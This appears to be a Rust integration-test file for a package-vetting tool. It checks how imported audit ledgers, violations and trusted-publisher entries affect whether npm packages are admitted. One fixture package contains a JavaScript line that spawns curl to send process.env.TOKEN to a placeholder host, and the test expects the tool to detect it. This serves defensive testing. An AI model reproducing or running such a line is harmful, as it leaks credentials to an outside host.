    assert_eq!(failed(&report, "lib@1.0.0"), ["review"], "{report}");
    // The import's audit of other still admits.
    let out = ws.admit("npm:other@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    // Loading the ledger says why the rest of the import was dropped.
    let out = ws.vetted(&["review", "npm:app@1.0.0"]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
    assert!(
        text.contains("exemptions in an imported ledger are ignored")
            && text.contains("trusted publishers in an imported ledger are ignored"),
        "{text}"
    );
}

/// A violation in acme's ledger revokes the version here even though our own exemption
/// covers it (violations only ever restrict), and admit withdraws nothing else.
#[test]
fn imported_violation_revokes_a_locally_exempted_version() {
    let up = Upstream::start();
    publish_app_lib_other(&up);
    let ws = Workspace::new(up.clone(), STAR);
    let out = certify_closure(
        &ws,
        "npm:app@1.0.0",
        &["--exempt", "--expires", "2999-01-01"],
    );
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let out = ws.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    import_acme(
        &ws,
        "[[violation]]\necosystem = \"npm\"\nname = \"lib\"\nversion = \"1.0.0\"\nwho = \"Acme Sec <s@acme.example>\"\nwhen = 2026-01-01\nnotes = \"acme found a backdoor\"\n",
    );
    let out = ws.admit("npm:app@1.0.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    let report = json(&out);
    assert_eq!(failed(&report, "lib@1.0.0"), ["revoked"], "{report}");
    assert!(failed(&report, "app@1.0.0").is_empty(), "{report}");
    let index = vetted::store::Store::open(&ws.path("store"))
        .index()
        .expect("index");
    assert!(index.withdrawn["lib"].contains_key("1.0.0"));
    assert!(index.packages["app"].versions.contains_key("1.0.0"));
}

/// A violation in acme's ledger also beats our own `[[trusted]]` publisher entry.
#[test]
fn imported_violation_beats_a_local_trusted_publisher() {
    let Some(ws) = trusted_workspace(&trusted_entry("release.yml", "refs/*", "2999-01-01")) else {
        return;
    };
    import_acme(
        &ws,
        "[[violation]]\necosystem = \"npm\"\nname = \"sigstore\"\nversion = \"1.3.0\"\nwho = \"Acme Sec <s@acme.example>\"\nwhen = 2026-01-01\n",
    );
    let out = ws.admit("npm:sigstore@1.3.0", &[]);
    assert_eq!(code(&out), Some(1), "{}", stderr(&out));
    assert_eq!(failed(&json(&out), "sigstore@1.3.0"), ["revoked"]);
}

#[test]
fn admission_of_an_audited_build_records_the_manifest_its_audit_stored() {
    // The admission reuses the audit's stored analysis (content::reuse): what it records must
    // be exactly the manifest the audit stored, the same one a full inspection builds.
    let up = Upstream::start();
    let mut p = Published::new("tool", "1.0.0", &days_ago(10));
    p.files.push((
        "lib/run.js".into(),
        b"require('child_process').exec('curl https://x.example/' + process.env.TOKEN)".to_vec(),
    ));
    up.publish(p);
    let ws = Workspace::new(up, STAR);
    let (out, _) = certify_and_admit(&ws, "npm:tool@1.0.0");
    assert_eq!(code(&out), Some(0), "{}", stderr(&out));
    let ledger = std::fs::read_to_string(ws.path("ledger/audits.toml")).expect("ledger");
    let audited: Vec<&str> = ledger
        .lines()
        .filter_map(|l| l.strip_prefix("manifest = \""))
        .map(|l| l.trim_end_matches('"'))
        .collect();
    assert_eq!(audited.len(), 1, "{ledger}");
    let mut recorded = Vec::new();
    for e in std::fs::read_dir(ws.path("store/records")).expect("records") {
        let v: serde_json::Value =
            serde_json::from_slice(&std::fs::read(e.expect("entry").path()).expect("record"))
                .expect("json");
        recorded.push(v["manifest"].as_str().expect("manifest").to_string());
    }
    assert_eq!(recorded, audited);
    let stored = std::fs::read_to_string(ws.path(&format!(
        "ledger/manifests/{}.json",
        audited[0].trim_start_matches("sha256:")
    )))
    .expect("stored manifest");
    assert!(
        stored.contains("\"analysis\""),
        "the stored manifest names its analysis"
    );
    assert!(stored.contains("process-spawn"), "{stored}");
}
